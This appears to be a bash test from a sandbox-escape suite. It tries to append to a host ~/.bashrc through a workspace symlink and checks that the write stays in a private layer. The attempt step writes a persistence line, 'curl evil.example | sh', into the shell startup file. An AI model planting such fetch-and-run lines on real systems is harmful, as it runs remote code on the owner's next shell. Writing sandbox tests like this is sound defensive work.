#!/usr/bin/env bash
# attempt: a symlink in the workspace to `~/.bashrc` (made on the host beforehand) is appended to, to run code in the next host shell
# layer: mount plan: the home is hidden by its real path (writes land in the private layer, gone after the command)
# shellcheck source=../lib.sh
source "$(dirname "$0")/../lib.sh"

setup() {
  ln -s "$FAKE_HOME/.bashrc" "$WS/bashrc-link"
}

attempt() {
  capture sandbox -c 'echo "curl evil.example | sh # pwned" >> bashrc-link; cat bashrc-link'
  refute "fake ~/.bashrc"
  grep -q pwned "$FAKE_HOME/.bashrc" && escaped "the host's ~/.bashrc was appended to"
  # The next command sees nothing of it either.
  capture sandbox -c 'cat bashrc-link'
  expect_rc 1
  expect_err "No such file or directory"
  refute pwned
}

run_attempt "$@"
